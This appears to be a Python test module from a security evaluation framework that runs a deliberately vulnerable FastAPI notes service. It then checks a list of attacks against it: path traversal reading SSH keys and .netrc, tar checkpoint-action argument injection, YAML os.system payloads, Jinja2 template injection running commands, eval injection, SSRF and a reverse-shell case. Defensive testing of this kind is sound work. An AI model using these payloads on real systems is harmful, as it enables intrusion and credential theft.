# SPDX-License-Identifier: Apache-2.0
"""A FastAPI application in uvicorn."""
import json
import urllib.parse

from attackers import in_yaml
import stage

TEXTKIT = {"__init__.py": '''"""Text."""
import re


def slug(text):
    return re.sub("[^a-z0-9]+", "-", text.lower())
'''}
TEXTKIT_NEW = {
    "__init__.py": '"""Text."""\n\n\ndef slug(text):\n'
                   "    from textkit import slugs\n"
                   "    return slugs.slug(text)\n",
    "slugs.py": "import re\nimport unicodedata\n\n\ndef slug(text):\n"
                '    text = unicodedata.normalize("NFKD", text)\n'
                '    return re.sub("[^a-z0-9]+", "-", text.lower())\n'}
TEMPLATE = "<h1>{{ title }}</h1>{{ text|upper }}"


class FastapiNotes(stage.Service):
    """An async API service with files, search and clippings (FastAPI)."""
    packages = ["python3-fastapi", "python3-uvicorn", "python3-jinja2",
                "python3-yaml"]

    def arrange(self):
        self.install("textkit", "2.0.1", TEXTKIT)
        for name in ("notes", "attachments"):
            (self.srv / "data" / name).mkdir(parents=True)

    def arrange_benign(self):
        self.install("textkit", "2.1.0", TEXTKIT_NEW)

    def command(self):
        return [self.python, "-m", "uvicorn", "--port", self.port("web"),
                "notes:app"]

    # ------------------------------------------------------------ ordinary use
    def call(self, method, path, data=None, **query):
        """Queries may hold lists."""
        if isinstance(data, str):
            data = data.encode()
        return self.browser().fetch(
            urllib.parse.quote(path) + "?" + urllib.parse.urlencode(
                query, doseq=True), data, method=method)

    def enter(self, user):
        body = self.expect_answer(f"{user} enters", self.browser().fetch(
            "/login", json.dumps({"user": user}).encode(),
            {"Content-Type": "application/json"}), "token")
        return json.loads(body)["token"] if body else ""

    def work(self, user, title, attachment, word, kind, clipping, packed=0):
        token = self.enter(user)
        self.expect_answer(f"keep {title}", self.call(
            "PUT", f"/notes/{title}", f"{word} and more", token=token), "slug")
        if packed:
            self.expect_answer(f"pack {title}", self.call(
                "PUT", f"/notes/{title}", word, token=token, packed=1), "slug")
        self.expect_answer(f"read {title}", self.call(
            "GET", f"/notes/{title}", token=token), word)
        self.expect_answer("titles", self.call("GET", "/notes", token=token),
                           title)
        self.expect_answer(f"search {word}", self.call(
            "GET", "/search", token=token, word=word), title)
        self.expect_answer(f"archive {title}", self.call(
            "GET", "/archive", token=token, title=[f"{title}.md"]), title)
        self.expect_answer(f"attach {attachment}", self.call(
            "PUT", "/attachments", b"data" * 9, token=token,
            name=attachment), "kept")
        self.expect_answer(f"attachment {attachment}", self.call(
            "GET", "/attachments", token=token, name=attachment), "data")
        self.expect_answer("page", self.call(
            "GET", "/page", token=token, title=title, template=TEMPLATE),
            word.upper())
        self.expect_answer("export", self.call(
            "GET", f"/export/{kind}", token=token, title=title), word)
        self.expect_answer(f"clip {clipping}", self.call(
            "POST", "/clip", token=token, title=f"clip {title}",
            url=self.site("news").url + clipping), "news")
        self.expect_answer("import", self.call(
            "POST", "/import", f"{title} 2: imported\n", token=token),
            '"imported":1')

    def train(self, day):
        self.site("news").page("*", "some news")
        self.expect_answer("style", self.browser().get("/static/notes.css"),
                           "teal")
        self.expect_answer("no token", self.browser().get("/notes"),
                           status=422)
        self.expect_answer("sum", self.browser().get("/sum", numbers="1+2"),
                           "3")
        for user, title, attachment, word, kind, clipping in (
                ("anna", "Shopping", "list.pdf", "milk", "html", "/today"),
                ("ben", "Trip plan", "map of alps.png", "train", "plain",
                 "/weather/1"),
                ("carla", "ideas-2025", "draft.v1.pdf", "boat", "html",
                 "/weather/2")):
            self.work(user, title, attachment, word, kind, clipping)
        self.expect_answer("no such note", self.call(
            "GET", "/notes/none", token=self.enter("anna")), status=404)

    def benign(self):
        self.site("news").page("*", "some news")
        for user, title, attachment, word, kind, clipping in (
                ("Hans Peter", "2026-11-21 Meeting", "fotos/berg.webp",
                 "agenda", "plain", "/archive/2026/11/21?x=1"),
                ("o.brien", "Ünïcode", "a/b/c/deep.csv", "straße", "html",
                 "/today"),
                ("zoe-lu", "v1.2 notes (draft)", "tune.flac", "x*y", "plain",
                 "/z"),
                ("anna", "Shopping", "list.pdf", "bread", "html", "/today")):
            self.work(user, title, attachment, word, kind, clipping, packed=1)
        self.expect_answer("no such page", self.browser().get("/nothing"),
                           status=404)
        self.expect_answer("no such style", self.browser().get(
            "/static/none.css"), status=404)
        self.expect_answer("error", self.browser().get(
            "/sum", numbers="1/0"), status=500)
        self.expect_answer("description", self.browser().get(
            "/openapi.json"), "paths")
        self.expect_answer("documentation", self.browser().get("/docs"),
                           "swagger")
        self.expect_answer("no number", self.browser().get(
            "/sum", numbers="sum(range(4))"), "6")

    def health(self):
        token = self.enter("anna")
        self.expect_answer("keep", self.call(
            "PUT", "/notes/Shopping", "milk", token=token), "slug")
        self.expect_answer("search", self.call(
            "GET", "/search", token=token, word="milk"), "Shopping")

    # ----------------------------------------------------------------- attacks
    def ready(self):
        """A visitor with a note."""
        token = self.enter("anna")
        self.call("PUT", "/notes/Shopping", "milk", token=token)
        return token

    def attached(self, name):
        self.call("PUT", "/attachments", b"x", token=self.enter("anna"),
                  name="x.pdf")
        return self.call("GET", "/attachments", token=self.enter("anna"),
                         name=name)[1]

    def render(self, template):
        return self.call("GET", "/page", token=self.ready(),
                         title="Shopping", template=template)[1]

    def load_yaml(self, text):
        return self.call("POST", "/import", text, token=self.ready())

    def clips(self, url):
        return self.call("POST", "/clip", token=self.ready(), title="x",
                         url=url)

    def adds(self, numbers):
        return self.browser().get("/sum", numbers=numbers)

    @stage.attack("traversal")
    def attachment_is_a_private_key(self):
        return stage.SECRET.encode() in self.attached(
            "../../../../home/.ssh/id_rsa")

    @stage.attack("source disclosure")
    def attachment_is_the_source(self):
        return b"HOLE" in self.attached("../../../notes.py")

    @stage.attack("secret disclosure")
    def attachment_is_the_environment(self):
        return b"HOME=" in self.attached("/proc/self/environ")

    @stage.attack("malicious plugin", fresh=True)
    def attachment_becomes_an_exporter(self):
        token = self.ready()

        def use(line):
            self.call("PUT", "/attachments",
                      f"import os\nos.system('{line}')\n", token=token,
                      name="../../../exporters/evil.py")
            self.call("GET", "/export/evil", token=token, title="Shopping")
        return self.runs_line(use)

    @stage.attack("write to start-up file", fresh=True)
    def attachment_replaces_the_profile(self):
        self.call("PUT", "/attachments", b"planted", token=self.ready(),
                  name="../../../../home/.profile")
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("write to code", fresh=True)
    def attachment_becomes_a_pth_file(self):
        self.call("PUT", "/attachments", b"import os  # planted",
                  token=self.ready(), name="../../../../venv/lib/python3.11/"
                  "site-packages/x.pth")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("argument injection")
    def title_runs_a_command(self):
        return self.runs_line(lambda line: self.call(
            "GET", "/archive", token=self.ready(), title=[
                "--checkpoint=1", f"--checkpoint-action=exec={line}",
                "Shopping.md"]))

    @stage.attack("argument injection")
    def title_archives_a_home(self):
        answer = self.call("GET", "/archive", token=self.ready(), title=[
            "-C", str(self.home), ".ssh/id_rsa"])
        return stage.SECRET.encode() in answer[1]

    @stage.attack("unsafe yaml")
    def import_runs_a_command(self):
        return self.runs_line(lambda line: self.load_yaml(
            f"x: !!python/object/apply:os.system ['{line}']\n"))

    @stage.attack("reverse shell")
    def import_calls_home(self):
        return self.calls_home(
            lambda code: self.load_yaml("x: " + in_yaml(code)))

    @stage.attack("template injection")
    def template_runs_a_command(self):
        return b"uid=" in self.render(
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}")

    @stage.attack("template injection")
    def template_reads_a_password(self):
        return stage.SECRET.encode() in self.render(
            "{{ cycler.__init__.__globals__.__builtins__.open("
            f"'{self.home}/.netrc').read() }}}}")

    @stage.attack("exfiltration")
    def template_sends_credentials(self):
        return self.steals(lambda code: self.render(
            "{{ cycler.__init__.__globals__.__builtins__.exec("
            f"{code!r}) }}}}"))

    @stage.attack("SSRF")
    def clipping_is_an_internal_service(self):
        return self.fetches_inside(self.clips)

    @stage.attack("SSRF")
    def clipping_is_redirected_inside(self):
        return self.is_redirected_inside("news", self.clips)

    @stage.attack("eval injection")
    def sum_runs_a_command(self):
        return self.runs_line(lambda line: self.adds(
            f"__import__('subprocess').run(['sh', '-c', '{line}'])"
            ".returncode"))

    @stage.attack("ctypes")
    def sum_calls_libc(self):
        return self.runs_libc(self.adds)

    @stage.attack("fork+exec")
    def sum_forks_and_execs(self):
        return self.forks(lambda code: self.adds(f"exec({code!r})"))

    @stage.attack("symlink swap", fresh=True)
    def attachment_became_a_link(self):
        token = self.ready()
        self.call("PUT", "/attachments", b"x", token=token, name="x.pdf")
        path = self.srv / "data/attachments/anna/x.pdf"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return stage.SECRET.encode() in self.call(
            "GET", "/attachments", token=token, name="x.pdf")[1]
